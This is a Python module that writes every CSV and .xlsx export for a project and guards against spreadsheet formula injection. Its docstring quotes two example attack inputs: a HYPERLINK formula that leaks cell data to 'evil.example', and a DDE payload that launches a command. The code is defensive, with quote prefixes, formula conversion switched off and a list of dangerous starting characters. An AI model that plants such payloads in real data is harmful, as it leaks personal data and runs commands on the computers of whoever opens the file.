"""The one writer of every spreadsheet the project hands out (CSV and .xlsx).

A spreadsheet program treats a cell that begins with = + - @ (or a tab or a
carriage return, which it skips before looking for those) as a formula. A
person, buyer or product name is typed by users, so a name such as
`=HYPERLINK("http://evil.example/?leak="&A2)` or `@SUM(1+1)*cmd|' /C calc'!A0`
would run as soon as an office opens the export — next to the full ID
numbers of a west-office roster. Excel with a Chinese input method also takes
the full-width forms (＝ ＋ － ＠) as the start of a formula, so they count too.

Every export writes its cells through this module, which keeps values typed
(numbers, dates, booleans stay numbers, dates and booleans, so a negative
amount is still a number) and writes every piece of text as inert text:

- .xlsx: the workbook is opened with `strings_to_formulas`,
  `strings_to_urls` and `strings_to_numbers` off and text goes through
  `write_string`, so nothing a user typed becomes a formula, a link or a
  number. Dangerous text also gets Excel's quote prefix, so editing the cell
  in Excel later keeps it text.
- CSV: a file has no cell types, so dangerous text gets a leading `'`
  (the OWASP convention), which spreadsheet programs show as text.

Code outside this module never holds an xlsxwriter worksheet: `Book.sheet`
returns a `Sheet` that writes values only through `Sheet.cell` and passes on
nothing but layout calls. A test checks that no other module imports a
spreadsheet or CSV writer.
"""

import csv
import datetime
import io
import math
from decimal import Decimal

import xlsxwriter
from xlsxwriter.utility import xl_col_to_name

# ASCII starters, the tab and carriage return spreadsheet programs skip, and
# the full-width forms an East Asian input method produces.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
MAX_ROW = 1_048_575

# Only these worksheet methods may be called through a Sheet: they shape the
# layout and never put a user's text into a cell.
LAYOUT = frozenset({"set_column", "set_row", "freeze_panes", "data_validation", "write_comment", "hide",
                    "set_landscape", "set_paper", "fit_to_pages", "autofilter", "set_first_sheet", "activate"})


def is_dangerous(text):
    """True when a spreadsheet program could read `text` as a formula."""
    return str(text).startswith(DANGEROUS)


def column_name(index):
    """The letters of a zero-based column index (0 → A)."""
    return xl_col_to_name(index)


# CSV


def csv_cell(value):
    """The text of one CSV cell: numbers and dates as they are, dangerous text
    behind a quote so that no spreadsheet program evaluates it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, (int, float, Decimal)):
        return str(value)
    if isinstance(value, (datetime.date, datetime.datetime)):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_dangerous(text) else text


class CsvWriter:
    """csv.writer that passes every cell through `csv_cell`."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, values):
        self._writer.writerow([csv_cell(v) for v in values])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_text(header, rows):
    """The whole CSV as text, with a byte-order mark so that Excel reads the
    Chinese as UTF-8."""
    buf = io.StringIO()
    writer = CsvWriter(buf)
    writer.writerow(header)
    writer.writerows(rows)
    return "\ufeff" + buf.getvalue()


# .xlsx


class Book:
    """An xlsxwriter workbook opened so that no string is ever interpreted.

    Styles are made with `style(**properties)`; the book remembers each
    style's properties so that it can derive the text, date and quoted
    variants of whatever style a caller chose for a cell.
    """

    OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False,
               "default_date_format": "yyyy-mm-dd"}

    def __init__(self, out, *, in_memory=False, text_format=False):
        """`out` is a path or a binary file object. With `text_format`, text
        cells carry Excel's text number format ("@") as well, so that what a
        user types over them later stays text (the ledger templates)."""
        self._wb = xlsxwriter.Workbook(out, {**self.OPTIONS, "in_memory": in_memory})
        self._props = {}
        self._variants = {}
        self._text_format = text_format
        self.date = self.style(num_format="yyyy-mm-dd")

    def style(self, **properties):
        fmt = self._wb.add_format(properties)
        self._props[id(fmt)] = (fmt, dict(properties))
        return fmt

    def _variant(self, fmt, **extra):
        """`fmt` with `extra` properties added (None stands for no style)."""
        base = {} if fmt is None else self._props[id(fmt)][1]
        key = (id(fmt), tuple(sorted(extra.items())))
        if key not in self._variants:
            self._variants[key] = self.style(**{**base, **extra})
        return self._variants[key]

    def text_style(self, fmt, text):
        extra = {}
        if self._text_format:
            extra["num_format"] = "@"
        if is_dangerous(text):
            extra["quote_prefix"] = True
        return self._variant(fmt, **extra) if extra else fmt

    def date_style(self, fmt):
        if fmt is None:
            return self.date
        if "num_format" in self._props[id(fmt)][1]:
            return fmt
        return self._variant(fmt, num_format="yyyy-mm-dd")

    def sheet(self, name):
        return Sheet(self, self._wb.add_worksheet(name))

    def close(self):
        self._wb.close()


class Sheet:
    """A worksheet that takes values only through `cell` and `row`."""

    def __init__(self, book, worksheet):
        self._book = book
        self._ws = worksheet

    def cell(self, row, col, value, style=None):
        """Write one value typed: None and "" leave the cell empty; numbers,
        dates and booleans stay numbers, dates and booleans; anything else is
        written as inert text."""
        book, ws = self._book, self._ws
        if value is None or value == "":
            if style is not None:
                ws.write_blank(row, col, None, style)
            return
        if isinstance(value, bool):
            ws.write_boolean(row, col, value, style)
        elif isinstance(value, (int, float, Decimal)) and math.isfinite(value):
            ws.write_number(row, col, float(value), style)
        elif isinstance(value, datetime.datetime):
            # Excel has no time zones: callers pass local times, and a zone
            # left on the value is dropped rather than refused.
            ws.write_datetime(row, col, value.replace(tzinfo=None), book.date_style(style))
        elif isinstance(value, datetime.date):
            ws.write_datetime(row, col, datetime.datetime.combine(value, datetime.time()), book.date_style(style))
        else:
            text = str(value)
            ws.write_string(row, col, text, book.text_style(style, text))

    def row(self, row, col, values, style=None):
        for offset, value in enumerate(values):
            self.cell(row, col + offset, value, style)

    def __getattr__(self, name):
        if name in LAYOUT:
            return getattr(self._ws, name)
        raise AttributeError(f"Sheet writes values only through cell() and row(); {name} is not a layout call")
